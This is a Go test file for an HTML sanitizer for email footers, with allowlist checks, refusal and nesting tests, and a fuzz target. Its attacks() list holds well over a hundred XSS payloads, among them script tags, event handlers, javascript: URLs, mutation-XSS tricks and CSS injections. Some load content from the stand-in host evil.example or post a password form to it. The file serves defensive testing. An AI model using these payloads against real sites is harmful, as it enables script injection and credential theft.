package footer

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"sede/internal/fault"
)

// TestCleanKeeps shows what footers are made of.
func TestCleanKeeps(t *testing.T) {
	for _, c := range [][2]string{
		{`Acme`, ``},
		{`<p style="margin:0; color:#333">Acme &amp; Sons</p>`, `<p style="margin: 0; color: #333">Acme &amp; Sons</p>`},
		{`<table width="100%" cellpadding=0 cellspacing="0" border="0" role="presentation"><tr><td align="center" bgcolor="#ffffff">x</td></tr></table>`,
			`<table width="100%" cellpadding="0" cellspacing="0" border="0" role="presentation"><tbody><tr><td align="center" bgcolor="#ffffff">x</td></tr></tbody></table>`},
		{`<a href="https://acme.example/?a=1&amp;b=2" style="text-decoration:none">Web</a>`, `<a href="https://acme.example/?a=1&amp;b=2" style="text-decoration: none">Web</a>`},
		{`<a href="mailto:hello@acme.example">Mail</a> <a href="tel:+351210000000">Call</a>`, ``},
		{`<img src="https://cdn.acme.example/l.png" width="120" height="40" alt="Acme">`, `<img src="https://cdn.acme.example/l.png" width="120" height="40" alt="Acme"/>`},
		{`<font face="Arial" color="red">x</font>`, `<font color="red" face="Arial">x</font>`},
		{`<span style="font-family:'Segoe UI',Arial,sans-serif">x</span>`, `<span style="font-family: &#39;Segoe UI&#39;,Arial,sans-serif">x</span>`},
		{`<td>cell</td>`, `cell`},
		{`{{ name }}, {{address}}`, `{{name}}, {{address}}`},
		{`<a href="{{ website }}"><img src="{{logo}}" width="90" alt="{{name}}"></a>`, `<a href="{{website}}"><img src="{{logo}}" width="90" alt="{{name}}"/></a>`},
		{`<a href="mailto:{{email}}">{{email}}</a> <a href="tel:{{phone}}">{{phone}}</a>`, ``},
		{"<p>Łódź\u00a0– Olá</p>", ""},
		{`a < b > c`, `a &lt; b &gt; c`},
		{`<span style="mso-line-height-rule:exactly;line-height:18px">x</span>`, `<span style="mso-line-height-rule: exactly; line-height: 18px">x</span>`},
		{`<!--[if mso]><p>Word</p><![endif]-->shown`, `shown`},
	} {
		want := c[1]
		if want == "" {
			want = c[0]
		}
		got, broken := NewCleaner().Clean(c[0])
		if len(broken) > 0 || got != want {
			t.Errorf("%s\n got %s\nwant %s\n%v", c[0], got, want, broken)
		}
	}
}

// TestCleanTakes shows that nothing that acts survives and text does.
func TestCleanTakes(t *testing.T) {
	const kept = "Acme Lda"
	for _, source := range attacks() {
		got, broken := NewCleaner().Clean("<p>" + kept + "</p>" + source + "<p>" + kept + " 2</p>")
		if len(broken) > 0 {
			t.Errorf("%s\nis refused: %v", source, broken)
			continue
		}
		if problem := harm(got); problem != "" {
			t.Errorf("%s\nbecomes %s\n%s", source, got, problem)
		}
		if !strings.Contains(got, kept) {
			t.Errorf("%s\nbecomes %s\nand the text is gone", source, got)
		}
		if strings.Count(source, "<") < 3 && !strings.Contains(got, kept+" 2") && !swallows(source) {
			t.Errorf("%s\nbecomes %s\nand the text after it is gone", source, got)
		}
	}
}

// swallows reports whether HTML takes what follows for content of the element.
func swallows(source string) bool {
	for _, opens := range []string{"<plaintext", "<script", "<style", "<textarea", "<xmp", "<noembed", "<iframe", "<noframes", "<title", "<svg", "<math",
		"<template", "<select", "<object", "<noscript", "<!--", "<frameset", "\""} {
		if strings.Contains(strings.ToLower(source), opens) {
			return true
		}
	}
	return false
}

func attacks() []string {
	list := []string{
		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`<script/xss src="https://evil.example">`, `<<script>alert(1);//<</script>`, `<script>`, `</script><script>alert(1)`,
		`<img src=x onerror=alert(1)>`, `<img src="javascript:alert(1)">`, `<img src=JaVaScRiPt:alert(1)>`, "<img src=\"java\tscript:alert(1)\">",
		"<img src=\"java\nscript:alert(1)\">", `<img src=" &#14; javascript:alert(1);">`, `<img src="&#106;&#97;vascript:alert(1)">`,
		`<img src="&#x6A;avascript:alert(1)">`, `<img """><script>alert(1)</script>">`, `<img src=https://a.example/x.png onload=alert(1)>`,
		`<img/src/onerror=alert(1)>`, `<img src="data:image/svg+xml;base64,PHN2Zy8+">`, `<img src="http://plain.example/x.png">`,
		`<img src="//evil.example/x.png">`, `<img src="cid:a">`, `<img srcset="https://evil.example/a.png 1x">`, `<img src="https://user:pass@evil.example/x.png">`,
		`<img dynsrc="javascript:alert(1)">`, `<img lowsrc="javascript:alert(1)">`, `<image src="javascript:alert(1)">`,
		`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
		`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg><animate onbegin=alert(1) attributeName=x>`, `<svg><foreignObject><iframe src="javascript:alert(1)">`,
		`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<math href="javascript:alert(1)">x</math>`,
		`<math><mi//xlink:href="javascript:alert(1)">`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
		`<title><img src=x onerror=alert(1)></title>`, `<xmp><img src=x onerror=alert(1)></xmp>`, `<plaintext><img src=x onerror=alert(1)>`,
		`<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>`, `<template><script>alert(1)</script></template>`,
		`<a href="javascript:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`, "<a href=\"\x01javascript:alert(1)\">x</a>",
		`<a href="jav&#x09;ascript:alert(1)">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
		`<a href="javascript&colon;alert(1)">x</a>`, `<a href="//evil.example">x</a>`, `<a href="/login">x</a>`, `<a href="file:///etc/passwd">x</a>`,
		`<a href="https://user@evil.example/">x</a>`, `<a onclick="alert(1)" href="https://a.example/">x</a>`, `<a style="x:expression(alert(1))">x</a>`,
		`<a href="https://bank.example\@evil.example">x</a>`, `<a href="feed:javascript:alert(1)">x</a>`, `<a ping="https://evil.example" href="https://a.example/">x</a>`,
		`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<frameset><frame src="javascript:alert(1)"></frameset>`,
		`<object data="javascript:alert(1)"></object>`, `<embed src="https://evil.example/x.swf">`, `<applet code=x></applet>`, `<base href="javascript:alert(1);//">`,
		`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`, `<link rel="stylesheet" href="https://evil.example/x.css">`, `<link rel=import href=x>`,
		`<style>@import "https://evil.example/x.css";</style>`, `<style>p{background:url("javascript:alert(1)")}</style>`, `<style>.a{position:fixed}</style>`,
		`<p style="background:url(javascript:alert(1))">x</p>`, `<p style="background-image:url(https://evil.example/x)">x</p>`,
		`<p style="width:expression(alert(1))">x</p>`, `<p style="behavior:url(x.htc)">x</p>`, `<p style="-moz-binding:url(https://evil.example/x)">x</p>`,
		`<p style="color:red;x:url('https://evil.example')">x</p>`, `<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>`,
		`<p style="margin-top:-500px">x</p>`, `<p style="col\6Fr:red">x</p>`, `<p style="color:r\65 d">x</p>`, `<p style="width:exp/**/ression(alert(1))">x</p>`,
		`<p style="color:&quot;;background:url(x)">x</p>`, `<p style="font-family:'a;background:url(//x)'">x</p>`, `<p style="z-index:9;opacity:0;transform:scale(9)">x</p>`,
		`<p style="content:attr(x);display:none">x</p>`, `<div style="color:var(--x)">x</div>`, `<p id="a" class="b" name="c">x</p>`, `<p contenteditable autofocus onfocus=alert(1)>x</p>`,
		`<form action="https://evil.example"><input name=password><button>Go</button></form>`, `<button formaction="javascript:alert(1)">x</button>`,
		`<input onfocus=alert(1) autofocus>`, `<select onchange=alert(1)><option>x</select>`, `<details open ontoggle=alert(1)>x</details>`,
		`<marquee onstart=alert(1)>x</marquee>`, `<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)></audio>`, `<isindex type=image src=1 onerror=alert(1)>`,
		`<table background="javascript:alert(1)"><tr><td background="https://evil.example/x">x</td></tr></table>`, `<td onmouseover=alert(1)>x`,
		`</td></tr></table><script>alert(1)</script>`, `</body></html><script>alert(1)</script>`, `<table><td><script>alert(1)</script></table>`,
		`<!--><script>alert(1)</script>-->`, `<!-- --!><script>alert(1)</script> -->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><script>alert(1)</script>`,
		`<!DOCTYPE html [<!ENTITY x "y">]><p>&x;</p>`, `<p/onclick=alert(1)>x`, "<p\x0conclick=alert(1)>x", `<b onmouseover="alert(1)">x</b>`, `<div/onpointerenter=alert(1)>x`,
		`<x onclick=alert(1) tabindex=1>x</x>`, `<custom-element is="x">x</custom-element>`, `<p slot="x" part="y" data-x="z">x</p>`,
		`&lt;script&gt;alert(1)&lt;/script&gt;`, "\u003cscript\u003ealert(1)\u003c/script\u003e", "＜script＞alert(1)＜/script＞", `<a href="https://a.example/" target=_top rel=opener>x</a>`,
		"<scr\x00ipt>alert(1)</scr\x00ipt>", "<a href=\"java\x00script:alert(1)\">x</a>", "<p>\xff\xfe<script>alert(1)</script>", `<dialog open onclose=alert(1)>x</dialog>`,
		`<a href="https://a.example/" style="display:block;position:absolute;inset:0">x</a>`, `<font color="red;x:expression(1)">x</font>`,
	}
	return list
}

// harm says what in HTML acts, reaches out, or is no part of the tables. It knows
// nothing of how HTML is cleaned.
func harm(source string) string {
	list, err := parse(source)
	if err != nil {
		return err.Error()
	}
	problem := ""
	for _, top := range list {
		each(top, func(n *html.Node) {
			switch n.Type {
			case html.TextNode:
				return
			case html.ElementNode:
			default:
				problem = "there is a node that is neither text nor element"
				return
			}
			if n.Namespace != "" || !slices.Contains(strings.Fields("table thead tbody tfoot tr td th caption p div br hr a img b strong i em u s small sub sup span "+
				"font center address blockquote h1 h2 h3 h4 h5 h6 ul ol li"), n.Data) {
				problem = "there is a " + n.Data
			}
			for _, a := range n.Attr {
				value := strings.ToLower(a.Val)
				switch {
				case a.Namespace != "" || strings.HasPrefix(a.Key, "on"):
					problem = a.Key
				case a.Key == "src" && !strings.HasPrefix(value, "https://") && value != "{{logo}}" && value != "{{icon}}":
					problem = a.Val
				case a.Key == "href" && !hasAnyPrefix(value, "https://", "http://", "mailto:", "tel:") && value != "{{website}}":
					problem = a.Val
				case a.Key == "style" && (strings.ContainsAny(value, `\<>@{}`) || containsAny(value, "url", "expression", "import", "position", "behavior", "binding", "/*", "-500", "var(", "none;", "z-index")):
					problem = a.Val
				case !slices.Contains(strings.Fields("src href style align valign dir lang title role width height cellpadding cellspacing border hspace vspace "+
					"colspan rowspan bgcolor color face size alt"), a.Key):
					problem = "there is an attribute " + a.Key
				}
			}
		})
	}
	return problem
}

func hasAnyPrefix(text string, prefixes ...string) bool {
	return slices.ContainsFunc(prefixes, func(p string) bool { return strings.HasPrefix(text, p) })
}

func containsAny(text string, parts ...string) bool {
	return slices.ContainsFunc(parts, func(p string) bool { return strings.Contains(text, p) })
}

func TestCleanRefuses(t *testing.T) {
	for source, want := range map[string]string{
		`{{nme}}`: "nme",
		`{{}}`:    "{{}}",
		`<img alt="{{logo}}" src="https://a.example">`: "{{logo}}",
		`<a href="https://a.example/{{name}}">x</a>`:   "https://a.example/{{name}}",
		`<a href="javascript:{{name}}">x</a>`:          "javascript",
		`<p style="color:{{name}}">x</p>`:              "style",
		`{{<script></script>nme}}`:                     "nme",
		strings.Repeat("x", Most+1):                    "49152",
		strings.Repeat("&", Most/2):                    "49152",
	} {
		got, broken := NewCleaner().Clean(source)
		if len(broken) == 0 {
			t.Errorf("%.60s becomes %.60s", source, got)
		} else if text := broken[0]; !strings.Contains(sentence(text), want) {
			t.Errorf("%.60s: %s", source, sentence(text))
		}
	}
}

// TestCleanEnds cleans the largest of what takes parsers long: nested without end.
func TestCleanEnds(t *testing.T) {
	for _, part := range []string{"<b>", "<table>", "<a href=x>", "<p>", "<div>", "<font><p>", "<b><i><p>", "</p>", "<svg>", "<!--", "<", "&", "<p style=\"color:red;\">", "{{name}}"} {
		if clean, broken := NewCleaner().Clean(strings.Repeat(part, Most/len(part))); len(clean) > Most || clean != "" && broken != nil {
			t.Errorf("%s, repeated, becomes %d bytes and %v", part, len(clean), broken)
		}
	}
}

func FuzzClean(f *testing.F) {
	for _, source := range attacks() {
		f.Add(source)
	}
	f.Add(`<a href="{{website}}"><img src="{{logo}}"></a>{{name}}`)
	cleaner := NewCleaner()
	values := Values{Name: `<b>"'&`, Website: "https://a.example/?x=1&y", Email: "a@b.example", Logo: Image{URL: "https://a.example/l"}}
	f.Fuzz(func(t *testing.T, source string) {
		clean, broken := cleaner.Clean(source)
		if len(broken) > 0 {
			return
		}
		if problem := harm(clean); problem != "" {
			t.Fatalf("%q becomes %q: %s", source, clean, problem)
		}
		if again, broken := cleaner.Clean(clean); again != clean || len(broken) > 0 {
			t.Fatalf("%q becomes %q and then %q %v", source, clean, again, broken)
		}
		rendered, _, err := Render(clean, &values)
		if err != nil {
			t.Fatal(err)
		}
		if problem := harm(rendered); problem != "" {
			t.Fatalf("%q is rendered as %q: %s", clean, rendered, problem)
		}
		Warnings(clean, len(rendered))
	})
}

func sentence(text fault.Text) string { return fmt.Sprintf(text.Format, text.Args...) }
